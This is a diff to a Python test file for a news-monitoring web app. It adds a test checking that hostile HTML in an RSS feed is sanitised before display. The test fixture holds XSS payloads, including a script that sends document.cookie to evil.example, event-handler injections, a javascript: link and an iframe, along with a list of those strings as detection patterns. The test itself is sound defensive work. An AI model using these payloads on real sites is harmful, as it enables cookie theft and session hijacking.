@@ -27,7 +27,7 @@ def test_pages_need_airflows_login(app) -> None:  # type: ignore[no-untyped-def]
 
     create_auth_manager()  # what the api-server does at start; it checks tokens
     client = TestClient(app)
-    for path in ("/digests", "/search?q=x", "/digests/2026-11-26"):
+    for path in ("/digests", "/search?q=x", "/digests/2026-11-26", "/articles/1"):
         assert client.get(path).status_code == 401, path
     # A forged session cookie is refused too, not taken at its word.
     client.cookies.set("_token", "not-a-jwt")
@@ -67,3 +67,66 @@ def test_digests_and_search_for_a_logged_in_user(app, db: Connection, settings: 
     hostile = client.get("/search", params={"q": '<script>alert(1)</script> "unbalanced'})
     assert hostile.status_code == 200
     assert "<script>alert(1)</script>" not in hostile.text and "&lt;script&gt;" in hostile.text
+
+
+HOSTILE_ITEM = """<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Wire</title>
+<link>https://wire.example/</link><description>x</description><item><title>Gunmen attack border post</title>
+<link>https://wire.example/border-post</link><guid>https://wire.example/border-post</guid>
+<pubDate>Mon, 02 Nov 2026 08:00:00 GMT</pubDate><description><![CDATA[
+<p onmouseover="steal()">Gunmen <b>attacked</b> a border post overnight, killing two border guards.</p>
+<script>document.location='https://evil.example/?c='+document.cookie</script>
+<img src="https://track.example/pixel.gif" onerror="alert(1)">
+<p>Read the <a href="javascript:alert(1)">full statement</a> or the
+<a href="https://wire.example/statement">ministry statement</a>.</p>
+<iframe src="https://evil.example/frame"></iframe>]]></description></item></channel></rss>"""
+
+
+def test_article_page_shows_the_feed_html_sanitised(
+    app, db: Connection, settings: Settings, tmp_path: Path
+) -> None:  # type: ignore[no-untyped-def]
+    from monitor.store import sources
+
+    app.dependency_overrides[get_user] = lambda: "analyst"
+    feed = tmp_path / "wire.xml"
+    feed.write_text(HOSTILE_ITEM, encoding="utf-8")
+    sources.add_feed(db, feed.as_uri(), "Wire", 30)
+    pipeline.ingest_due_feeds(settings, db)
+    pipeline.process_pending(settings, db)
+    with db.cursor() as cur:
+        cur.execute("SELECT id, raw, display_html FROM articles")
+        ((article_id, raw, stored),) = cur.fetchall()
+    db.commit()
+    assert "<script>" in raw  # the raw input stays verbatim, and is never shown
+    for active in (
+        "<script",
+        "steal()",
+        "onerror",
+        "javascript:",
+        "<iframe",
+        "evil.example",
+        "track.example",
+    ):
+        assert active not in stored, active
+
+    client = TestClient(app)
+    found = client.get("/search", params={"q": "border guard"})
+    assert f'href="articles/{article_id}"' in found.text
+    page = client.get(f"/articles/{article_id}")
+    assert page.status_code == 200
+    assert "script-src" not in page.headers["content-security-policy"]  # default-src 'none' covers it
+    assert page.headers["content-security-policy"].startswith("default-src 'none'")
+    html = page.text
+    assert "<b>attacked</b> a border post overnight" in html  # the source's formatting is kept
+    assert '<a href="https://wire.example/statement" rel="noopener noreferrer nofollow">' in html
+    for active in (
+        "<script",
+        "steal()",
+        "onerror",
+        "javascript:",
+        "<iframe",
+        "evil.example",
+        "track.example",
+    ):
+        assert active not in html, active
+    assert "Border security" in html or "Terrorism" in html  # its topics with their evidence
+    assert client.get("/articles/999999").status_code == 404
